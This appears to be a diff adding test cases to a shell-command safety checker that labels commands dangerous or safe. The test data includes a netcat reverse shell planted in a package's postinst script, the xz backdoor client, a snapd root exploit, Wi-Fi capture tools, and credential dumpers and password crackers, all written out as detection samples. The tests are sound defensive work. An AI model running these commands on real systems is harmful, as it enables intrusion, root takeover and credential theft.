@@ -3212,3 +3212,90 @@ describe('the seventy-fourth to eighty-fifth, eighty-seventh and eighty-ninth se
     if (reason) expect(r.reasons.join('; ')).toContain(reason);
   });
 });
+
+describe('the eighty-sixth and eighty-eighth sets: Wi-Fi drivers and captures, packages and their install scripts', () => {
+  it.each([
+    // Kernel modules built for every kernel, and the AUR's older helpers.
+    ['dkms install 8192cu/1.9', true, "changes the machine's"],
+    ['dkms status', false],
+    ['yaourt -S hostapd-rtl871xdrv', true, 'installed packages'],
+    // Wireless tools asked for their longer help, a packet filter compiled, an old capture converter.
+    ['wifite -h -v', false],
+    ['hcxdumptool --bpfc="not wlan addr3 ccce1edc3bee" > protect.bpf', false],
+    ['hcxdumptool -i wlan0 -w dump.pcapng', true, 'wireless'],
+    ['hcxpcaptool -z pmkid.16800 pmkid.pcapng', true, 'wireless'],
+    // The xz backdoor's client and a snapd root exploit run as a script.
+    ["xzbot -addr 127.0.0.1:2222 -cmd 'id > /tmp/.xz'", true, 'attack tool'],
+    ['python3 ./dirty_sockv2.py', true, 'take root'],
+    // A command planted in a package's maintainer script runs as root at install.
+    ['echo "/bin/nc ${my_ip} 8888 -e /bin/bash" >> work/DEBIAN/postinst', true, "package's install script"],
+    ['echo "ldconfig" >> work/DEBIAN/postinst', false],
+    ['echo "/bin/nc 10.0.0.1 8888 -e /bin/bash" >> notes.txt', false],
+    // A served web application's settings hold its database's password; a password given to MySQL's client.
+    ['cat /var/www/html/sites/default/settings.php', true, 'secrets'],
+    ['cat /var/www/html/index.php', false],
+    ["mysql -u drupaluser -p'CQHEy@9M*m23gBVj' drupal", true, 'password written in the command'],
+    ['mysql -u app -p app', false],
+    // A named scratch directory under /tmp mounted into a container; the entrypoint's own options.
+    ['docker run -v /tmp/fpm-test/files:/src -v /tmp/fpm-test:/out fpm -s dir -t tar -n example -p /out/out.tar .', false],
+    ['docker run -v /tmp:/tmp alpine', true, 'mounts /tmp'],
+    ['docker run -v /tmp/$X:/x alpine', true, 'mounts'],
+  ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
+    const r = checkCommand(cmd, WS);
+    expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
+    if (reason) expect(r.reasons.join('; ')).toContain(reason);
+  });
+});
+
+describe('the ninetieth and ninety-third sets: password stores, registries and their pillagers', () => {
+  it.each([
+    // Password stores read, unlocked or changed; their listings of names and their help read nothing.
+    ['gopass show entry --password', true, 'prints a credential'],
+    ['gopass ls', false],
+    ['gopass recipients', false],
+    ['gopass recipients add --store team-a alice@example.com', true, 'password store'],
+    ['pass show email/work', true, 'prints a credential'],
+    ['pass insert email/work', true, 'password store'],
+    ['rbw unlock', true, 'prints a credential'],
+    ['rbw list', false],
+    ['bw list items', true, 'prints a credential'],
+    ['bw --version', false],
+    ['passbolt create resource --name "Test Resource" --password "Strong Password"', true, 'password store'],
+    ['passbolt exec -- gh auth login', true, 'prints a credential'],
+    ['keepassxc-cli show db.kdbx entry', true, 'prints a credential'],
+    // KeePass' attackers, crackers and memory-dump readers by name; a stealer asked for help.
+    ["KeePwn search -u 'Administrator' -p 'P@$$w0rd!!' -d 'COMPANY.LOCAL' -tf ./targets.txt", true, 'attack tool'],
+    ['python bfkeepforce.py -d db.kdbx -w passwords.txt', true, 'cracks passwords'],
+    ['keedump KeePass.DMP', true, 'stored logins'],
+    ['laZagne.exe browsers -h', false],
+    ['laZagne.exe all', true, 'stored passwords'],
+    // Registries written by crane and pillaged by name; a push to a registry on this machine stays here.
+    ['crane tag $CI_REGISTRY_IMAGE:$CI_COMMIT_SHORT_SHA latest', true, 'infrastructure'],
+    ['crane auth get index.docker.io', true, 'credential'],
+    ['crane index filter ubuntu --platform linux/amd64', false],
+    ['crane ls ubuntu', false],
+    ['tkn bundle push us.gcr.io/project/pipeline:latest -f task.yaml', true, 'reaches past this machine'],
+    ['bee push localhost:5000/tcpconnect:test', false],
+    ['docker push localhost:5000/my-ubuntu', false],
+    ['docker push ghcr.io/org/app:1.0', true, 'pushes an image'],
+    ['pilreg --whiteout 127.0.0.1:5000/whiteout-demo', true, 'attack tool'],
+    ['pilreg --local alpine.tar --trufflehog', false],
+    ['python drg.py https://127.0.0.1 -U testuser -P testpassword --dump_all', true, 'attack tool'],
+    ['trufflehog version', false],
+    // A program no table names, told to delete, send or unlock; deleting named workspace files stays here.
+    ['s4tool rm s3://bucket/logs/2020/03/18/file1.gz', true, 'told to delete'],
+    ['vaultcli unlock', true, 'told to delete'],
+    ['fileicon rm path/to/file_or_directory', false],
+    ['fileicon set path/to/file icon.png', false],
+    // This machine's infrastructure on loopback (databases, etcd, the worker's Temporal) against a project's own server.
+    ['curl http://127.0.0.1:2379/v2/keys/?recursive=true', true, 'service on this host'],
+    ['curl http://127.0.0.1:7233/api/v1/namespaces', true, 'service on this host'],
+    ['nc -vz localhost 5432', true, 'service on this host'],
+    ['curl -v localhost:8080/service/1', false],
+    ['curl -s http://localhost:10002 | jq -r .os.hostname', false],
+  ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
+    const r = checkCommand(cmd, WS);
+    expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
+    if (reason) expect(r.reasons.join('; ')).toContain(reason);
+  });
+});
